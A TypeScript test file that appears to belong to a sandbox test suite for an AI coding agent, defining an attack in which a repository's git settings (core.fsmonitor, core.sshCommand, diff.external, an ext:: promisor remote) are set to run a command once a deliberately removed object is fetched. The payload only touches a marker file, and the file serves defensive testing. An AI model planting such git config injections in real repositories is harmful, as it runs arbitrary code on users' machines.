import { randomUUID } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { runGit } from '../../support/repository.ts';
import type { Attack } from '../attack.ts';
import { call, calling } from '../replies.ts';

const mark = `${tmpdir()}/program-${randomUUID()}`;
const settings = {
  'core.fsmonitor': `touch ${mark}`,
  'core.hooksPath': '/tmp/evil-hooks',
  'core.sshCommand': `touch ${mark}`,
  'diff.external': `touch ${mark}`,
  'core.repositoryFormatVersion': '1',
  'extensions.partialClone': 'evil',
  'remote.evil.url': `ext::touch ${mark}`,
  'remote.evil.promisor': 'true',
  'protocol.ext.allow': 'always',
};

export default {
  aim: 'run a program that the settings of the repository name',
  wall: 'programs',
  model: calling(call('read_file', { path: 'README.md' })),
  prepare: async (workspace) => {
    await unpack(workspace);
    const blob = await runGit(workspace, ['rev-parse', 'HEAD:README.md']);
    const [, folder = '', rest = ''] = /^(..)(\w+)/.exec(blob.toString()) ?? [];
    await rm(`${workspace}/.git/objects/${folder}/${rest}`);
    for (const [name, value] of Object.entries(settings))
      await runGit(workspace, ['config', name, value]);
  },
  breaches: () => {
    const isRun = existsSync(mark);
    rmSync(mark, { force: true });
    return isRun ? ['a program was run'] : [];
  },
} satisfies Attack;

/** Writes each object to a file of its own, so that one can be missing: Git then asks for it where the settings say. */
async function unpack(workspace: string): Promise<void> {
  const folder = `${workspace}/.git/objects/pack`;
  const packs = (await readdir(folder)).filter((name) => name.endsWith('.pack'));
  const contents = await Promise.all(packs.map((name) => readFile(`${folder}/${name}`)));
  await rm(folder, { recursive: true });
  for (const stdin of contents) await runGit(workspace, ['unpack-objects', '-q'], { stdin });
}
